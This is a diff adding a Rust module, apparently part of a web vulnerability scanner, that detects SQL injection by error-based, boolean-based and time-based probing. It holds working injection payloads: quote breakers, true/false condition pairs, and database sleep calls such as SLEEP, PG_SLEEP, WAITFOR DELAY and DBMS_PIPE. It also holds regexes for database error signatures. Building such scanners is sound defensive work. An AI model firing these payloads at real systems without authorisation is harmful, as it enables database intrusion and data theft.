@@ -1,0 +1,322 @@
+//! SQL injection: error-based, boolean-based and time-based.
+
+use super::common::{after, inject};
+use crate::catalogue::{locs, module_id, OWASP_A03};
+use crate::client::{SendError, Sent};
+use crate::ctx::{Ctx, Hit};
+use crate::finding::Confidence;
+use crate::similarity::{similarity, strip};
+use crate::target::{InsertionPoint, Resource};
+use rampart_domain::catalogue::{AttackMeta, ModuleMeta};
+use rampart_domain::{ModuleType, Severity};
+use regex::Regex;
+use std::sync::LazyLock;
+use std::time::Duration;
+
+pub(crate) const KEY: &str = "sqli";
+
+pub(crate) fn meta() -> ModuleMeta {
+    ModuleMeta {
+        id: module_id(KEY),
+        key: KEY,
+        name: "SQL Injection",
+        description: "<p>The application builds an SQL statement from request input without neutralising it. An attacker can read or modify the database, bypass authentication and sometimes execute commands on the database host.</p><p>The engine confirms this by database error signatures, by two independent true/false condition pairs compared by page similarity, or by response delays that grow linearly with the requested delay.</p>",
+        recommendation: "Use parameterised queries (prepared statements) for every query; never concatenate input into SQL. Apply least privilege to the database account and validate input types.",
+        module_type: ModuleType::Active,
+        severity: Severity::High,
+        cwe: 89,
+        wasc: Some(19),
+        owasp_2021: "A03:2021-Injection",
+        cvss_vector: "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
+        parameter_locations: locs::INPUTS,
+        references: &[
+            ("CWE-89: Improper Neutralization of Special Elements used in an SQL Command", "https://cwe.mitre.org/data/definitions/89.html"),
+            ("OWASP SQL Injection Prevention Cheat Sheet", "https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html"),
+            OWASP_A03,
+        ],
+        attacks: &[
+            AttackMeta {
+                id: "SQLI_01",
+                kind: "Error-based SQL injection",
+                class: "Injection",
+                description: "Quotes and syntax breakers that make the database report an error whose signature (MySQL/MariaDB, PostgreSQL, SQLite, MSSQL, Oracle) appears in the response.",
+            },
+            AttackMeta {
+                id: "SQLI_02",
+                kind: "Boolean-based SQL injection",
+                class: "Injection",
+                description: "Two independent true/false condition pairs; the true pages match the original and the false pages differ, by similarity.",
+            },
+            AttackMeta {
+                id: "SQLI_03",
+                kind: "Time-based SQL injection",
+                class: "Injection",
+                description: "Database sleep functions with two delays, serialised per host and repeated; the response time must grow linearly with the delay.",
+            },
+        ],
+    }
+}
+
+/// Database error signatures, per DBMS.
+static ERRORS: LazyLock<Vec<(&'static str, Regex)>> = LazyLock::new(|| {
+    [
+        ("MySQL/MariaDB", r"(?i)(you have an error in your sql syntax|warning: mysqli?_|mysql_fetch|MySqlException|com\.mysql\.jdbc|check the manual that corresponds to your (mysql|mariadb) server version|Unknown column '[^']+' in)"),
+        ("PostgreSQL", r"(?i)(pg_query\(\)|PSQLException|unterminated quoted string at or near|syntax error at or near|ERROR:\s+syntax error at end of input|invalid input syntax for (type )?integer)"),
+        ("SQLite", r"(?i)(sqlite3?\.OperationalError|SQLITE_ERROR|SQLite/JDBCDriver|near \x22[^\x22]*\x22: syntax error|unrecognized token: \x22|sqlite error|System\.Data\.SQLite)"),
+        ("Microsoft SQL Server", r"(?i)(unclosed quotation mark after the character string|Microsoft OLE DB Provider for SQL Server|\[SQL Server\]|SqlException|Incorrect syntax near)"),
+        ("Oracle", r"(?i)(ORA-\d{5}|quoted string not properly terminated|oracle\.jdbc|PLS-\d{5})"),
+    ]
+    .into_iter()
+    .filter_map(|(n, r)| Regex::new(r).ok().map(|re| (n, re)))
+    .collect()
+});
+
+fn db_error(text: &str) -> Option<(&'static str, String)> {
+    ERRORS
+        .iter()
+        .find_map(|(n, re)| re.find(text).map(|m| (*n, m.as_str().to_string())))
+}
+
+const BREAKERS: &[&str] = &["'", "\"", "')", "\\", "1'\"", ";"];
+
+/// Error-based, then boolean-based, then time-based, stopping at the first proof.
+pub(crate) async fn attack(
+    ctx: &Ctx,
+    r: &Resource,
+    orig: &Sent,
+    p: &InsertionPoint,
+) -> Result<(), SendError> {
+    if ctx.already(KEY, r, Some(p)).await {
+        return Ok(());
+    }
+    if error_based(ctx, r, orig, p).await? || boolean_based(ctx, r, orig, p).await? {
+        return Ok(());
+    }
+    time_based(ctx, r, orig, p).await.map(|_| ())
+}
+
+async fn error_based(
+    ctx: &Ctx,
+    r: &Resource,
+    orig: &Sent,
+    p: &InsertionPoint,
+) -> Result<bool, SendError> {
+    let orig_text = orig.response.text();
+    if db_error(&orig_text).is_some() {
+        return Ok(false);
+    }
+    for b in BREAKERS {
+        let value = after(p, b);
+        let sent = inject(ctx, r, p, &value).await?;
+        let text = sent.response.text();
+        let Some((dbms, evidence)) = db_error(&text) else {
+            continue;
+        };
+        // Repair: doubling the quote (or a comment) should make the error go away.
+        let repaired = match *b {
+            "'" => Some(after(p, "''")),
+            "\"" => Some(after(p, "\"\"")),
+            _ => None,
+        };
+        let mut confidence = Confidence::Firm;
+        if let Some(rv) = repaired {
+            let fixed = inject(ctx, r, p, &rv).await?;
+            if db_error(&fixed.response.text()).is_none() {
+                confidence = Confidence::Confirmed;
+            }
+        }
+        ctx.report_point(
+            r,
+            Some(p),
+            Hit {
+                module: KEY,
+                attack_id: "SQLI_01",
+                value: &value,
+                proof: evidence,
+                proof_description: &format!(
+                    "{dbms} error message in the response to a syntax-breaking value"
+                ),
+                confidence,
+                original: Some(orig),
+                attack: Some(&sent),
+            },
+        )
+        .await;
+        return Ok(true);
+    }
+    Ok(false)
+}
+
+/// True/false condition pairs per context: (prefix-less suffixes).
+fn pairs(p: &InsertionPoint, a: u64, b: u64) -> Vec<(String, String)> {
+    let numeric = !p.original.is_empty() && p.original.chars().all(|c| c.is_ascii_digit());
+    let mut v = Vec::new();
+    if numeric {
+        v.push((format!(" AND {a}={a}"), format!(" AND {a}={b}")));
+    }
+    v.push((format!("' AND '{a}'='{a}"), format!("' AND '{a}'='{b}")));
+    v.push((format!("' AND {a}={a}-- -"), format!("' AND {a}={b}-- -")));
+    v.push((
+        format!("\" AND \"{a}\"=\"{a}"),
+        format!("\" AND \"{a}\"=\"{b}"),
+    ));
+    v
+}
+
+async fn boolean_based(
+    ctx: &Ctx,
+    r: &Resource,
+    orig: &Sent,
+    p: &InsertionPoint,
+) -> Result<bool, SendError> {
+    // Stability of the original page: two fetches must agree.
+    let again = ctx.send(orig.request.clone()).await?;
+    let base = orig.response.text();
+    let stable = similarity(&base, &again.response.text());
+    if stable < 0.95 {
+        return Ok(false);
+    }
+    let hi = stable.min(0.98);
+    let (a1, b1) = (super::common::num(100, 999), super::common::num(100, 999));
+    let (a2, b2) = (
+        super::common::num(1000, 9999),
+        super::common::num(1000, 9999),
+    );
+    if a1 == b1 || a2 == b2 {
+        return Ok(false);
+    }
+    for (ctx_idx, (t1, f1)) in pairs(p, a1, b1).into_iter().enumerate() {
+        let tv = after(p, &t1);
+        let fv = after(p, &f1);
+        let t = inject(ctx, r, p, &tv).await?;
+        let tt = strip(&t.response.text(), &[&tv]);
+        if t.response.status != orig.response.status || similarity(&base, &tt) < hi {
+            continue;
+        }
+        let f = inject(ctx, r, p, &fv).await?;
+        let ft = strip(&f.response.text(), &[&fv]);
+        if similarity(&base, &ft) > hi - 0.1 || similarity(&tt, &ft) > 0.9 {
+            continue;
+        }
+        // Second, independent pair in the same context.
+        let (t2, f2) = pairs(p, a2, b2).swap_remove(ctx_idx);
+        let tv2 = after(p, &t2);
+        let fv2 = after(p, &f2);
+        let t2s = inject(ctx, r, p, &tv2).await?;
+        let f2s = inject(ctx, r, p, &fv2).await?;
+        let t2t = strip(&t2s.response.text(), &[&tv2]);
+        let f2t = strip(&f2s.response.text(), &[&fv2]);
+        if similarity(&base, &t2t) >= hi
+            && similarity(&base, &f2t) <= hi - 0.1
+            && similarity(&ft, &f2t) > 0.8
+        {
+            ctx.report_point(r, Some(p), Hit {
+                module: KEY,
+                attack_id: "SQLI_02",
+                value: &fv,
+                proof: format!("true conditions {tv:?} and {tv2:?} return the original page; false conditions {fv:?} and {fv2:?} do not"),
+                proof_description: "two independent true/false condition pairs change the page as a database would",
+                confidence: Confidence::Firm,
+                original: Some(orig),
+                attack: Some(&f),
+            })
+            .await;
+            return Ok(true);
+        }
+    }
+    Ok(false)
+}
+
+fn sleepers(p: &InsertionPoint, d: u64) -> Vec<String> {
+    let numeric = !p.original.is_empty() && p.original.chars().all(|c| c.is_ascii_digit());
+    let mut v = Vec::new();
+    if numeric {
+        v.push(format!(" AND SLEEP({d})"));
+        v.push(format!(" AND 1=(SELECT 1 FROM PG_SLEEP({d}))"));
+        v.push(format!(";WAITFOR DELAY '0:0:{d}'--"));
+    }
+    v.push(format!("' AND SLEEP({d})-- -"));
+    v.push(format!("' AND 1=(SELECT 1 FROM PG_SLEEP({d}))-- -"));
+    v.push(format!("';WAITFOR DELAY '0:0:{d}'-- -"));
+    v.push(format!("' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('r',{d})-- -"));
+    v
+}
+
+async fn time_based(
+    ctx: &Ctx,
+    r: &Resource,
+    orig: &Sent,
+    p: &InsertionPoint,
+) -> Result<bool, SendError> {
+    let cap = ctx.http.plan().limits.max_time_probe.as_secs().max(2);
+    let (d1, d2) = ((cap / 2).max(1), cap);
+    let baseline = orig.response.elapsed;
+    let timeout = Duration::from_secs(d2 + 10);
+    let n = sleepers(p, d1).len();
+    for i in 0..n {
+        // Timing probes never run in parallel on one host.
+        let _guard = ctx.http.timing_guard(&r.url).await;
+        let v1 = after(p, &sleepers(p, d1)[i]);
+        let s1 = ctx
+            .http
+            .send_with_timeout(
+                r.with_value(p, &v1),
+                crate::client::Purpose::Attack,
+                Some(timeout),
+            )
+            .await?;
+        let t1 = s1.response.elapsed;
+        if t1 < Duration::from_secs(d1) + baseline / 2
+            || t1 > Duration::from_secs(d1 * 3) + baseline
+        {
+            continue;
+        }
+        // Linear in the delay, and back to normal without it: rules out jitter and "sleep × rows".
+        let v2 = after(p, &sleepers(p, d2)[i]);
+        let s2 = ctx
+            .http
+            .send_with_timeout(
+                r.with_value(p, &v2),
+                crate::client::Purpose::Attack,
+                Some(timeout),
+            )
+            .await?;
+        let t2 = s2.response.elapsed;
+        let v0 = after(p, &sleepers(p, 0)[i]);
+        let s0 = ctx
+            .http
+            .send_with_timeout(
+                r.with_value(p, &v0),
+                crate::client::Purpose::Attack,
+                Some(timeout),
+            )
+            .await?;
+        let t0 = s0.response.elapsed;
+        let grew = t2 >= Duration::from_secs(d2) && t2 < Duration::from_secs(d2 * 3) + baseline;
+        let quick = t0 < Duration::from_secs(d1);
+        if grew && quick && t2 > t1 {
+            ctx.report_point(
+                r,
+                Some(p),
+                Hit {
+                    module: KEY,
+                    attack_id: "SQLI_03",
+                    value: &v2,
+                    proof: format!(
+                        "delay {d1}s took {:.2}s, delay {d2}s took {:.2}s, delay 0 took {:.2}s",
+                        t1.as_secs_f64(),
+                        t2.as_secs_f64(),
+                        t0.as_secs_f64()
+                    ),
+                    proof_description: "the response time follows the requested database sleep",
+                    confidence: Confidence::Firm,
+                    original: Some(orig),
+                    attack: Some(&s2),
+                },
+            )
+            .await;
+            return Ok(true);
+        }
+    }
+    Ok(false)
+}
